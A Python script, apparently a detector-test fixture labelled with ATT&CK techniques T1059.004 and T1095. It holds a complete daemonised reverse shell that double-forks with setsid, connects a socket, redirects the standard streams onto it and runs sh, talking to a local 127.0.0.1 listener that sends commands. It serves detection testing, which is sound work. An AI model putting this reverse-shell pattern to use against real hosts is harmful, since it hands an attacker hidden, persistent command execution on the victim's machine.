# technique: T1059.004 T1095
"""Daemonised reverse shell: fork, setsid, fork again, then connect, dup2 and exec a shell (T1059.004, T1095).

The shell runs in a grandchild detached from the session (os.setsid
between two forks), as malware does to survive its parent; the
connection is made only in the grandchild. The original process waits on
a pipe for the grandchild to finish so that the script stays bounded.

A good detector raises a critical alert: a shell starts with a socket on
its standard streams, in whatever descendant of the Python program.
"""
import os
import socket
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
done_read, done_write = os.pipe()
first = os.fork()
if first == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            os.close(done_read)
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.connect(("127.0.0.1", port))
            for fd in (0, 1, 2):
                os.dup2(sock.fileno(), fd)
            os.execvp("sh", ["sh"])  # done_write stays open in the shell and closes when it exits
        finally:
            os._exit(1)
    os._exit(0)
os.close(done_write)
os.waitpid(first, 0)
os.read(done_read, 1)  # returns b"" when the grandchild shell has exited
operator.join(3)
print("operator transcript:", transcript)
